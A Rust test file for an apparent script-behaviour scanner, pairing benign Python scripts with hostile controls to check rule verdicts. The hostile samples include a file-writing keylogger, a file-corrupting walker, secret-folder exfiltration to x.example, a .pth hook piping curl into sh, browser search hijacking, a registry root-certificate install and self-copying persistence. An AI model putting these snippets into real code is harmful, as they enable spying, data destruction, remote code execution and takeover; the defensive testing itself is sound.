//! Behaviour tests for the tenth round (what blind batch 9 showed: benign
//! scripts flagged, browsers hijacked, Windows root stores written), spelled
//! unlike the batch, each with a control. Every test names a behaviour the
//! release at af3ff49 misjudges.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// Root asked back after the uid was given up for good is the check that
/// the drop holds (af3ff49: MB202, HIGH); asking for root without a drop
/// first is still MB202.
#[test]
fn root_asked_back_after_a_drop_checks_it() {
    let src = "import os, pwd\ndef shed():\n    e = pwd.getpwnam('daemon')\n    os.setgid(e.pw_gid)\n    os.setuid(e.pw_uid)\n    try:\n        os.setuid(0)\n    except PermissionError:\n        return\n    raise SystemExit(1)\nshed()\n";
    let a = run(src);
    assert!(!rules(&a).contains(&"MB202"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Low);
    // seteuid is not for good: seteuid(0) after it regains root.
    let juggle = "import os\ndef f():\n    os.seteuid(1000)\n    os.seteuid(0)\nf()\n";
    assert!(rules(&run(juggle)).contains(&"MB202"));
    let gain = "import os\nos.setuid(0)\n";
    assert!(rules(&run(gain)).contains(&"MB202"));
}

/// A keyboard listener in a script that can keep nothing (no file, no
/// command, no network) is MB225, MEDIUM (af3ff49: MB212, HIGH).
#[test]
fn keystrokes_kept_in_memory_are_not_a_keylogger() {
    let game = "from pynput import keyboard\nhits = []\ndef on(k):\n    hits.append(k)\n    return len(hits) < 10\nwith keyboard.Listener(on_press=on) as l:\n    l.join()\nprint(len(hits))\n";
    let a = run(game);
    assert!(rules(&a).contains(&"MB225"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium);
    // Written to a file: a keylogger.
    let logger = "from pynput import keyboard\nlog = open('k.txt', 'a')\ndef on(k):\n    log.write(str(k))\nwith keyboard.Listener(on_press=on) as l:\n    l.join()\n";
    assert!(rules(&run(logger)).contains(&"MB212"));
}

/// A CA the script makes itself, trusted in the user's NSS store, by a
/// script that uses no network: MB226, MEDIUM (af3ff49: MB220, HIGH).
#[test]
fn a_local_development_root_is_not_interception() {
    let src = "import subprocess, os\nd = os.path.expanduser('~/ca')\nsubprocess.run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', d + '/k.pem', '-out', d + '/c.pem', '-subj', '/CN=dev'])\nsubprocess.run(['certutil', '-d', 'sql:' + os.path.expanduser('~/.pki/nssdb'), '-A', '-t', 'C,,', '-n', 'dev', '-i', d + '/c.pem'])\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB226"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Medium);
    // A root carried in the script stays MB220.
    let carried = "import subprocess\nsubprocess.run(['certutil', '-d', 'sql:/home/u/.pki/nssdb', '-A', '-t', 'C,,', '-n', 'x', '-i', 'root.pem'])\n";
    assert!(rules(&run(carried)).contains(&"MB220"));
}

/// Files overwritten with random bytes and then unlinked are shredded, not
/// corrupted (af3ff49: MB953, BLOCKED); written back and kept, they are.
#[test]
fn shredded_files_are_not_corrupted_data() {
    let shred = "import os, sys\ndef shred(p):\n    with open(p, 'r+b') as f:\n        f.write(os.urandom(os.path.getsize(p)))\n    os.remove(p)\nfor base, _, files in os.walk(sys.argv[1]):\n    for n in files:\n        shred(os.path.join(base, n))\n";
    let a = run(shred);
    assert!(!rules(&a).contains(&"MB953"), "{:?}", a.findings);
    let bomb = "import os, sys\ndef spoil(p):\n    with open(p, 'r+b') as f:\n        f.write(os.urandom(64))\nfor base, _, files in os.walk(sys.argv[1]):\n    for n in files:\n        spoil(os.path.join(base, n))\n";
    assert!(rules(&run(bomb)).contains(&"MB953"));
}

/// Secret folders named in a list that only leaves them out (af3ff49:
/// MB205 and MB904, BLOCKED); the same list iterated is still read.
#[test]
fn a_deny_list_of_secret_folders_is_not_access() {
    let backup = "import os, requests\nSKIP = {'.ssh', '.gnupg', '.aws'}\nfor base, dirs, files in os.walk(os.path.expanduser('~/Documents')):\n    dirs[:] = [d for d in dirs if d not in SKIP]\n    for f in files:\n        requests.put('https://nas.lan/up/' + f, data=open(os.path.join(base, f), 'rb'))\n";
    let a = run(backup);
    assert!(!rules(&a).contains(&"MB205"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let grab = "import os, requests\nTAKE = ['.ssh', '.gnupg', '.aws']\nfor t in TAKE:\n    requests.post('https://x.example/u', data=t)\n";
    assert!(rules(&run(grab)).contains(&"MB205"));
}

/// A per-user unit of a script that finds its project beside itself
/// (`Path(__file__).parent`) is the user's own (af3ff49: MB906, BLOCKED);
/// a script naming its own file otherwise is not.
#[test]
fn a_project_found_beside_the_script_is_not_the_script() {
    let unit = "from pathlib import Path\nrepo = Path(__file__).resolve().parent\nunit = Path.home() / '.config/systemd/user/docs.service'\nunit.write_text(f'[Service]\\nWorkingDirectory={repo}\\nExecStart=/usr/bin/mkdocs serve\\n')\n";
    let a = run(unit);
    assert!(rules(&a).contains(&"MB224"), "{:?}", a.findings);
    let copy = "import shutil\nfrom pathlib import Path\nunit = Path.home() / '.config/systemd/user/x.service'\nshutil.copy(__file__, Path.home() / '.local/x.py')\nunit.write_text('[Service]\\nExecStart=python3 ~/.local/x.py\\n')\n";
    assert!(rules(&run(copy)).contains(&"MB906"));
}

/// A `.pth` whose text is harmless on its own (a path, a guarded import)
/// is MB224 (af3ff49: MB906, BLOCKED); one that runs decoded code is not.
#[test]
fn harmless_start_up_hooks_are_the_users_own() {
    let cov = "import sysconfig, pathlib\np = pathlib.Path(sysconfig.get_paths()['purelib']) / 'cov.pth'\np.write_text(\"import os; os.environ.get('COV') and __import__('coverage').process_startup()\\n\")\n";
    let a = run(cov);
    assert!(rules(&a).contains(&"MB224"), "{:?}", a.findings);
    let bad = "import sysconfig, pathlib\np = pathlib.Path(sysconfig.get_paths()['purelib']) / 'z.pth'\np.write_text(\"import os; os.system('curl -s http://x.example/a | sh')\\n\")\n";
    assert!(rules(&run(bad)).contains(&"MB906"));
}

/// Browser settings written with a search provider, a proxy script or
/// protections off: MB955, BLOCKED (af3ff49: LOW); privacy settings in
/// one profile are not.
#[test]
fn browser_settings_taken_over() {
    let prefs = "import json, glob, os\nfor p in glob.glob(os.path.expanduser('~/.config/chromium/*/Preferences')):\n    d = json.load(open(p))\n    d['default_search_provider_data'] = {'template_url_data': {'url': 'https://s.example/?q={searchTerms}'}}\n    json.dump(d, open(p, 'w'))\n";
    let a = run(prefs);
    assert!(rules(&a).contains(&"MB955"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let off = "import sys\nopen(sys.argv[1] + '/user.js', 'w').write('user_pref(\"browser.safebrowsing.malware.enabled\", false);\\n')\n";
    assert!(rules(&run(off)).contains(&"MB955"));
    let privacy = "import sys\nopen(sys.argv[1] + '/user.js', 'w').write('user_pref(\"toolkit.telemetry.enabled\", false);\\n')\n";
    assert!(!rules(&run(privacy)).contains(&"MB955"));
}

/// A Windows root store written key by key through winreg, also behind
/// an optional import (af3ff49: LOW): MB220, and MB947 with a proxy.
#[test]
fn windows_root_store_written_through_the_registry() {
    let src = "try:\n    import winreg\nexcept ImportError:\n    winreg = None\nROOT = r'Software\\Microsoft\\SystemCertificates\\Root\\Certificates'\ndef add(t, blob):\n    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, ROOT + '\\\\' + t)\n    winreg.SetValueEx(k, 'Blob', 0, winreg.REG_BINARY, blob)\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB220"), "{:?}", a.findings);
    let proxy = format!("{src}PROXY_SERVER = 'ProxyServer'\nHOST = '198.51.100.9:8080'\n");
    assert!(rules(&run(&proxy)).contains(&"MB947"));
    let list = "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\SystemCertificates\\Root\\Certificates')\nprint(winreg.QueryInfoKey(k))\n";
    assert!(!rules(&run(list)).contains(&"MB220"));
}
